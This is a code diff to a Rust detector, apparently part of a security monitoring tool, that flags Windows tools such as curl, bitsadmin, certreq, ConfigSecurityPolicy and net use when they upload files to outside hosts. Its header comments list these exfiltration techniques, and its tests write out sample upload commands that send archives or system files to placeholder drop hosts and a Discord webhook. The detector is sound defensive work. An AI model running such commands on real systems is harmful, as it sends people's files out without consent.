@@ -1,7 +1,7 @@
 //! A general tool of the system is told to send a file out.
 //!
 //! **Fires** on curl (`-T`, `--upload-file`, `-F file=@…`, `--data-binary @…`, `-d @…`), wget (`--post-file`), bitsadmin
-//! (`/upload`), certreq (`-Post`), certutil's kin, PowerShell's web commands with a file as body, `WebClient.Upload…`, mail with attachments,
+//! (`/upload`), certreq (`-Post`), ConfigSecurityPolicy and DataSvcUtil (to a web address), PowerShell's web commands with a file as body, `WebClient.Upload…`, mail with attachments,
 //! copies to a WebDAV share outside (`\\host@SSL\DavWWWRoot`), finger, and `nslookup` with long names, to a host that is not in a
 //! private network where the host is told.
 //!
@@ -15,10 +15,10 @@
 //! left out), crash reporters.
 
 use crate::command::{Act, Launch, host_of, is_local, is_odd_place};
-use crate::services::service_of;
+use crate::services::{names_a_hook, service_of};
 
 /// Programs by name for the subscription.
-pub const PROGRAMS: [&str; 13] = [
+pub const PROGRAMS: [&str; 15] = [
     "curl.exe",
     "wget.exe",
     "bitsadmin.exe",
@@ -32,9 +32,12 @@ pub const PROGRAMS: [&str; 13] = [
     "xcopy.exe",
     "robocopy.exe",
     "cmd.exe",
+    "configsecuritypolicy.exe",
+    "datasvcutil.exe",
 ];
 /// Their authors' names.
-pub const ORIGINALS: [&str; 4] = ["curl.exe", "bitsadmin.exe", "certreq.exe", "finger.exe"];
+pub const ORIGINALS: [&str; 6] =
+    ["curl.exe", "bitsadmin.exe", "certreq.exe", "finger.exe", "configsecuritypolicy.exe", "datasvcutil.exe"];
 
 /// What a launch is worth telling for; none: nothing.
 pub fn judge(launch: &Launch) -> Option<Act> {
@@ -57,12 +60,18 @@ pub fn judge(launch: &Launch) -> Option<Act> {
         Some(("bitsadmin uploads a file", launch.words.last().map_or("", String::as_str), 3))
     } else if launch.is(&["certreq"]) && launch.has_any(&["-post", "/post"]) {
         Some(("certreq posts a file", launch.words.last().map_or("", String::as_str), 3))
+    } else if launch.is(&["configsecuritypolicy", "datasvcutil"])
+        && launch.words.iter().any(|word| word.contains("://"))
+    {
+        Some(("a tool of Windows carries a file to a web address", launch.words.first().map_or("", String::as_str), 3))
     } else if launch.is(&["finger"]) && launch.words.iter().any(|word| word.contains('@') && word.len() > 24) {
         Some(("finger carries data in a user's name", "", 3))
     } else if launch.is(&["nslookup"]) {
         long_label(launch).map(|name| ("nslookup asks for a name that carries data", name, 2))
     } else {
-        dav(launch).map(|word| ("files go to a WebDAV share", word, 2))
+        dav(launch)
+            .map(|word| ("files go to a WebDAV share", word, 2))
+            .or_else(|| mapped(launch).map(|word| ("a web address is mapped as a drive", word, 1)))
     };
     let (what, file, points) = file?;
     if !target.is_empty() && is_local(target) {
@@ -75,7 +84,8 @@ pub fn judge(launch: &Launch) -> Option<Act> {
 fn weigh(act: Act, launch: &Launch, file: &str, target: &str) -> Act {
     let service = service_of(target).is_some();
     let address = !target.is_empty() && target.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
-    act.odd(service, 2, "to a service that takes files or texts from anyone")
+    let hook = !service && names_a_hook(&launch.line);
+    act.odd(service || hook, 2, "to a service that takes files or texts from anyone")
         .odd(address, 1, "to a bare address")
         .odd(is_archive(file), 1, "an archive")
         .odd(is_odd_place(file), 1, "of a file in an odd place")
@@ -94,7 +104,7 @@ fn curl(launch: &Launch) -> Option<(&'static str, &str, i64)> {
     let sent = launch.words.iter().zip(launch.words.iter().skip(1)).find_map(|(option, value)| match option.as_str() {
         "-t" | "--upload-file" => Some(value.as_str()),
         "-f" | "--form" if value.contains("=@") || value.contains("=<") => value.split(['@', '<']).nth(1),
-        "--data-binary" | "-d" | "--data" | "--data-raw" | "--data-urlencode"
+        "--data-binary" | "-d" | "--data" | "--data-ascii" | "--data-urlencode" | "--json"
             if at(value) && !value.starts_with('{') =>
         {
             value.split('@').nth(1)
@@ -129,6 +139,14 @@ fn dav(launch: &Launch) -> Option<&str> {
     })
 }
 
+/// `net use x: https://host/…`, or to a WebDAV share.
+fn mapped(launch: &Launch) -> Option<&str> {
+    let web = |word: &&str| {
+        word.starts_with("https://") || word.starts_with("http://") || word.starts_with("\\\\") && word.contains("@ssl")
+    };
+    (launch.is(&["net", "net1"]) && launch.has("use")).then(|| launch.words.iter().map(String::as_str).find(web))?
+}
+
 pub(super) fn is_archive(file: &str) -> bool {
     let file = file.trim_end_matches(['"', '\'', ')', ';', ',']);
     [".zip", ".rar", ".7z", ".gz", ".tar", ".cab", ".tgz", ".dmp", ".kirbi", ".dit"]
@@ -156,5 +174,10 @@ mod tests {
         assert!(points("bitsadmin.exe /transfer j /upload https://drop.example/x c:\\users\\public\\a.zip") >= 4);
         assert!(points("certreq.exe -Post -config https://drop.example c:\\windows\\win.ini") >= 3);
         assert_eq!(points("nslookup.exe example.com"), -1);
+        assert!(points("curl.exe -F file1=@c:\\x\\a.7z https://discord.com/api/webhooks/1/x") >= 5);
+        assert!(points("ConfigSecurityPolicy.exe c:\\x\\a.txt https://drop.example/up") >= 3);
+        assert_eq!(points("net.exe use z: https://203.0.113.9/dav"), 2);
+        assert_eq!(points("net.exe use z: \\\\fs1\\share"), -1);
+        assert_eq!(points("curl.exe -f -L https://example.com/setup.exe -o setup.exe"), -1);
     }
 }
